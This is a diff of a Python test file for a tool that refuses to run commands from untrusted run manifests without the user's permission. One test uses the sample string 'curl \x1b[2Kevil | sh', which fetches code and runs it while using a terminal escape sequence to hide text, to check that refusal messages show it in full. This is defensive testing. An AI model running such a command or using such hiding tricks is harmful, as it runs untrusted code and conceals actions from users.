@@ -1,4 +1,4 @@
-"""Manifests from elsewhere: what they may run without the caller's permission."""
+"""Manifests from elsewhere: commands and files that need the user's permission."""
 
 import json
 import re
@@ -35,7 +35,7 @@ def written(folder, content):
 
 @pytest.fixture
 def measured(monkeypatch):
-    """Note what is measured, and measure nothing."""
+    """Return the list of conditions to measure; nothing is measured."""
     found = []
 
     def run(condition, *_, **__):
@@ -54,11 +54,11 @@ def test_built_in_apps_need_no_permission(app):
     assert condition.app == app
 
 
-def test_a_refusal_shows_each_command_and_folder_and_the_option():
+def test_refusal_shows_commands_folders_and_the_option():
     with pytest.raises(LosslabError) as error:
         rerun.require_trusted(manifest(COMMAND), trust=False)
     words = str(error.value)
-    # An escape sequence could hide what follows it.
+    # A terminal's escape sequence could hide the text after it.
     for shown in (
         "on the sender: 'curl \\x1b[2Kevil | sh'",
         "'./receive'",
@@ -70,14 +70,14 @@ def test_a_refusal_shows_each_command_and_folder_and_the_option():
     assert rerun.require_trusted(manifest(COMMAND), trust=True).app == "command"
 
 
-def test_a_manifest_cannot_ask_for_this_machines_own_kernel():
+def test_hosts_kernel_needs_permission():
     with pytest.raises(LosslabError, match="own kernel, as root"):
         rerun.require_trusted(manifest({}, HOST), trust=False)
     assert rerun.require_trusted(manifest({}, HOST), trust=True)
 
 
 @pytest.mark.parametrize("trusted", [False, True])
-def test_a_backend_that_there_is_not_is_refused(trusted):
+def test_unknown_backend_of_a_manifest_is_refused(trusted):
     for content in (manifest({}, "moon"), manifest({}) | {"backend": "none-such"}):
         with pytest.raises(LosslabError, match="must name one of the backends"):
             rerun.require_trusted(content, trusted)
@@ -92,12 +92,12 @@ def test_a_backend_that_there_is_not_is_refused(trusted):
     ],
 )  # fmt: skip
 @pytest.mark.parametrize("trusted", [False, True])
-def test_names_that_the_repository_does_not_have_are_refused(cell, trusted):
-    with pytest.raises(LosslabError, match="must have a condition that can be measured"):
+def test_unknown_names_in_a_manifest_are_refused(cell, trusted):
+    with pytest.raises(LosslabError, match="condition cannot be measured"):
         rerun.require_trusted(manifest(cell), trusted)
 
 
-def test_rerun_asks_for_permission(tmp_path, capsys, measured):
+def test_rerun_needs_permission(tmp_path, capsys, measured):
     folder = str(written(tmp_path / "run", manifest(COMMAND)))
     assert cli.main(["rerun", folder]) == 1
     assert "on the receiver: './receive'" in capsys.readouterr().err
@@ -106,11 +106,11 @@ def test_rerun_asks_for_permission(tmp_path, capsys, measured):
     assert [condition.app for condition in measured] == ["command"]
 
 
-def test_export_asks_for_permission(tmp_path, measured):
+def test_export_needs_permission(tmp_path, measured):
     content = manifest(COMMAND)
     folder = written(tmp_path / "run", content)
     with (
-        pytest.raises(LosslabError, match="own programs"),
+        pytest.raises(LosslabError, match="programs that are not losslab"),
         export.captured(folder, content, "r1-r2"),
     ):
         pass
@@ -123,7 +123,7 @@ def test_export_asks_for_permission(tmp_path, measured):
     assert len(measured) == 1
 
 
-def test_verify_asks_for_permission(tmp_path, measured):
+def test_verify_needs_permission(tmp_path, measured):
     folder = written(tmp_path / "run", manifest(COMMAND))
     with pytest.raises(sampling.CannotRunError, match=re.escape("on the receiver: './receive'")):
         sampling.run_again(folder, trust=False)
@@ -133,15 +133,15 @@ def test_verify_asks_for_permission(tmp_path, measured):
     assert len(measured) == 1
 
 
-def test_a_guest_gets_a_copy_of_the_video(tmp_path):
-    """It may write to its job's folder; other jobs stream the original."""
+def test_guest_gets_a_copy_of_the_video(tmp_path):
+    """A program may write to its job's folder; other jobs stream the original."""
     video = tmp_path / "video.mp4"
     video.write_bytes(b"video")
     job = tmp_path / "job"
     job.mkdir()
 
     condition = rerun.require_trusted(manifest({"app": "ffmpeg", "duration_s": 40}), trust=False)
-    what = replicate._furnish(job, condition, 1, video, ())
+    what = replicate._prepare(job, condition, 1, video, ())
     assert what["video"]
     (job / "video.mp4").write_bytes(b"other")
     assert video.read_bytes() == b"video"
